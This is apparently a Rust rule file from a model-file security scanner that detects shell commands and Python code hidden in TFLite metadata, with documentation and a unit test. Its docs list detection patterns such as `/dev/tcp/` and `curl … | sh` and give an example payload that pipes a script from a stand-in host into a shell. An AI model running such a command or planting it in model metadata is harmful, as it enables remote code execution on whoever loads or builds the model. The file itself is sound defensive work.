//! TFL008: the model's description or metadata contains a shell command or Python code.

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use crate::rules::safetensors::metadata_payloads::{MetadataText, check_code};

pub static RULE: RuleMeta = RuleMeta {
    code: "TFL008",
    name: "tflite-metadata-code",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::CodeInjection,
    scanner: "tflite",
    cwe: Some("CWE-94"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "The TFLite model description, a subgraph or signature name, a metadata entry or a TFLite Support metadata string contains a shell command or Python code.",
    remediation: "Find out what reads this metadata; do not run it. Re-convert the model without the entry.",
    docs: r#"## What it does
Looks at the model `description`, subgraph names, signature keys, metadata
names and metadata buffers (as text when they are UTF-8, else their
printable runs), and the strings of the TFLite Support metadata
(`TFLITE_METADATA`: name, description, author, license, …) for Python that
evaluates code or runs commands (`eval(`, `__import__`, `os.system(`, …)
and shell commands (`curl … | sh`, `bash -c`, `/dev/tcp/`, …). The
patterns need call or pipe syntax, so prose does not match.

## Why is this bad?
The TFLite runtime never executes metadata. A command there is staged for
a tool that will (a build script that runs a "post-install" entry, an app
that evaluates a field) or for a person who copies it.

## Example
A metadata entry `post_install` whose buffer is
`curl -fsSL http://example.invalid/x.sh | sh`.

## How to fix
Do not execute anything taken from model metadata; re-convert the model.

## References
- https://www.tensorflow.org/lite/models/convert/metadata
- CWE-94: Improper Control of Generation of Code
- CWE-78: OS Command Injection
"#,
};

pub(crate) fn check(texts: &[MetadataText<'_>], location: &Location, out: &mut Vec<Finding>) {
    check_code(&RULE, texts, location, out);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::safetensors::metadata_payloads::Text;

    #[test]
    fn description_with_python() {
        let texts = [MetadataText {
            key: "description",
            text: Text::Str("MLIR Converted. __import__('os').system('echo x')"),
            offset: 0x30,
            in_vocabulary: false,
        }];
        let mut out = Vec::new();
        check(&texts, &Location::file("m.tflite"), &mut out);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].rule, "TFL008");
    }
}
